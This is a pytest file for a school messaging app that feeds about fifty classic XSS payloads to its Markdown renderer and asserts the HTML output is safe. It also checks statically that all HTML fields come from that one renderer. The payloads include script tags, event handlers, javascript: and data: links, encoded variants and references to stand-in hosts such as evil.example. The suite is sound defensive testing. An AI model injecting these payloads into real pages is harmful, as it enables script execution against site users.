"""One Markdown renderer, one suite of XSS payloads.

Everything users write in Markdown (messages, liaison notes, announcements, poll
descriptions, homework instructions, lesson contents) is turned into HTML by
``preau.common.markdown.render_markdown`` and inserted in the page as is. The first part
feeds it classic cross-site-scripting payloads and checks the HTML that comes out with a
real HTML parser: only allow-listed tags, no event handler, no style, links only to
http/https/mailto and opened without opener. The second part proves that every ``*_html``
field of the models and of the API comes from that renderer, and that no other code
produces HTML from user text.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import yaml
from django.apps import apps

from preau.common.markdown import ALLOWED_TAGS, markdown_excerpt, render_markdown

REPO = Path(__file__).resolve().parents[2]

PAYLOADS = [
    # raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<body onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<a href=\"javascript:alert(1)\">clic</a>",
    "<a href=\"https://example.org\" onclick=\"alert(1)\" target=\"_self\">clic</a>",
    "<form action=\"https://evil.example\"><input name=x></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<p title=\"</p><script>alert(1)</script>\">x</p>",
    # Markdown links and images
    "[clic](javascript:alert(1))",
    "[clic](JaVaScRiPt:alert(1))",
    "[clic](java\tscript:alert(1))",
    "[clic](&#106;avascript:alert(1))",
    "[clic](&#x6A;avascript&#x3A;alert(1))",
    "[clic](javascript&colon;alert(1))",
    "[clic](%6Aavascript:alert(1))",
    "[clic](vbscript:msgbox(1))",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[clic](data:image/svg+xml,<svg onload=alert(1)>)",
    "[clic](file:///etc/passwd)",
    "[clic](<javascript:alert(1)>)",
    "[clic](https://example.org \"titre\" onmouseover=alert(1))",
    "[clic](https://example.org\"onmouseover=\"alert(1))",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[clic][a]",
    "![image](javascript:alert(1))",
    "![image](https://evil.example/pixel.png \"onerror=alert(1)\")",
    "![x\" onerror=\"alert(1)](https://example.org/x.png)",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    # code, headings, tables, quotes carrying markup
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> <iframe src=https://evil.example></iframe>",
    "**<svg onload=alert(1)>**",
    # encodings
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x00<img src=x onerror=alert(1)>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000049&#0000041\">x</a>",
]

# "" is a relative link (e.g. "%6Aavascript:…": browsers never percent-decode a scheme).
SAFE_SCHEMES = {"http", "https", "mailto", ""}


class Inspector(HTMLParser):
    """Collects every start tag with its attributes (entities already decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def inspect(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Inspector()
    parser.feed(html)
    parser.close()
    return parser.tags


def assert_safe(html: str) -> None:
    for tag, attrs in inspect(html):
        assert tag in ALLOWED_TAGS, f"<{tag}> in {html!r}"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{name} on <{tag}> in {html!r}"
            assert name in {"href", "title", "start", "align", "rel", "target"}, (tag, name)
            if name == "href":
                target = re.sub(r"[\x00-\x20]", "", value or "")
                assert urlsplit(target).scheme.lower() in SAFE_SCHEMES, f"href={value!r}"
        if tag == "a":
            assert attrs.get("target") == "_blank"
            assert set((attrs.get("rel") or "").split()) >= {"noopener", "noreferrer"}
    lowered = html.lower()
    for element in re.findall(r"<[^>]*>", lowered):
        for forbidden in ("javascript:", "vbscript:", "data:", " on", "style="):
            assert forbidden not in element, f"{forbidden!r} in the tag {element!r}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_payloads_come_out_harmless(payload):
    assert_safe(render_markdown(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_payloads_inside_ordinary_markdown_come_out_harmless(payload):
    assert_safe(render_markdown(f"Bonjour **les familles**,\n\n- {payload}\n- fin\n\n{payload}"))


def test_excerpts_are_plain_text_shown_as_text():
    """Previews (inbox lines, notifications) carry text, never markup of the renderer; the web
    app shows them as text nodes (escaped by React), see the last test of this file."""
    assert markdown_excerpt("**Sortie** au [musée](https://example.org)") == "Sortie au musée"


def test_ordinary_markdown_still_renders():
    html = render_markdown(
        "# Sortie\n\n**Jeudi** au [musée](https://musee.example.fr/visite?x=1&y=2), "
        "écrire à [l'école](mailto:ecole@example.fr).\n\n1. Pique-nique\n2. Gourde")
    assert "<h3>Sortie</h3>" in html
    assert "<strong>Jeudi</strong>" in html
    assert 'href="https://musee.example.fr/visite?x=1&amp;y=2"' in html
    assert 'href="mailto:ecole@example.fr"' in html
    assert "<ol>" in html
    assert "<li>Gourde</li>" in html


def test_an_image_becomes_a_link_so_no_remote_image_is_loaded():
    html = render_markdown("![le plan](https://example.org/plan.png)")
    assert "<img" not in html
    ((tag, attrs),) = inspect(html)[1:]
    assert (tag, attrs["href"], attrs["target"]) == ("a", "https://example.org/plan.png", "_blank")
    assert ">le plan</a>" in html


def test_a_raw_html_comment_or_tag_shows_as_text():
    html = render_markdown("Une <b>balise</b> et 2 < 3")
    assert "<b>" not in html
    assert "&lt;b&gt;balise&lt;/b&gt;" in html


# --- Every Markdown field goes through the one renderer --------------------------------------

# Each HTML field of a model, with the Markdown field it is rendered from.
STORED_HTML_FIELDS = {
    ("messaging", "Message", "body_html"): "body",
    ("messaging", "LiaisonNote", "body_html"): "body",
    ("messaging", "Announcement", "body_html"): "body",
    ("messaging", "Poll", "description_html"): "description",
}
# Each HTML property of the API, with the Markdown source it is rendered from.
API_HTML_PROPERTIES = {
    "body_html", "content_html", "description_html", "instructions_html",
}


def test_every_html_field_of_the_models_is_known_here():
    found = {
        (model._meta.app_label, model.__name__, field.name)
        for model in apps.get_models() for field in model._meta.get_fields()
        if field.name.endswith("_html")
    }
    assert found == set(STORED_HTML_FIELDS)


def test_every_html_property_of_the_api_is_known_here():
    schema = yaml.safe_load((REPO / "backend/openapi/schema.yaml").read_text())
    found = {
        name
        for component in schema["components"]["schemas"].values()
        for name in component.get("properties", {})
        if name.endswith("_html")
    }
    assert found == API_HTML_PROPERTIES


def python_sources():
    for path in sorted((REPO / "backend/preau").rglob("*.py")):
        if "migrations" not in path.parts:
            yield path


def test_html_fields_are_only_written_from_render_markdown():
    """Outside the renderer, an ``*_html`` value is only ever ``render_markdown(...)``."""
    assignment = re.compile(r"\b(\w+_html)\s*=\s*(.+)")
    offenders = []
    for path in python_sources():
        for number, line in enumerate(path.read_text().splitlines(), 1):
            match = assignment.search(line)
            if not match or "serializers." in match.group(2) or "models." in match.group(2):
                continue
            value = match.group(2)
            if not (value.startswith("render_markdown(") or "render_markdown(" in value):
                offenders.append(f"{path.relative_to(REPO)}:{number}: {line.strip()}")
    assert offenders == []


def test_serializers_render_html_properties_with_render_markdown():
    homework = (REPO / "backend/preau/homework/serializers.py").read_text()
    for method in ("get_instructions_html", "get_content_html"):
        body = homework.split(f"def {method}", 1)[1].split("\n\n", 1)[0]
        assert "return render_markdown(" in body, method


def test_no_other_code_turns_user_text_into_html():
    """One renderer: no other Markdown library, no mark_safe, no second sanitizer."""
    forbidden = re.compile(
        r"^\s*(import|from)\s+(markdown\b|mistune|bleach|commonmark|markdown2)"
        r"|mark_safe\(|SafeString\(|\|\s*safe\b|MarkdownIt\(|nh3\.clean\(",
        re.MULTILINE,
    )
    offenders = [
        str(path.relative_to(REPO))
        for path in python_sources()
        if path.name != "markdown.py" and forbidden.search(path.read_text())
    ]
    assert offenders == []


def test_the_web_app_inserts_html_only_from_sanitized_fields():
    """Raw HTML reaches the page only through ``ServerHtml``, fed only ``*_html`` fields."""
    sources = {p: p.read_text() for p in (REPO / "frontend/src").rglob("*.tsx")
               if "generated" not in p.parts and not p.name.endswith(".test.tsx")}
    raw = {p.name for p, text in sources.items() if "dangerouslySetInnerHTML" in text}
    assert raw == {"ServerHtml.tsx"}
    parts = sources[REPO / "frontend/src/shared/ServerHtml.tsx"]
    assert "export function ServerHtml" in parts
    assert parts.count("dangerouslySetInnerHTML") == 1
    fed = [match for text in sources.values()
           for match in re.findall(r"<ServerHtml\s+html=\{([^}]+)\}", text)]
    assert fed, "the web app shows rendered Markdown"
    assert all(expression.strip().endswith("_html") for expression in fed), fed
    package = (REPO / "frontend/package.json").read_text()
    for library in ("marked", "markdown-it", "react-markdown", "remark", "dompurify"):
        assert f'"{library}"' not in package
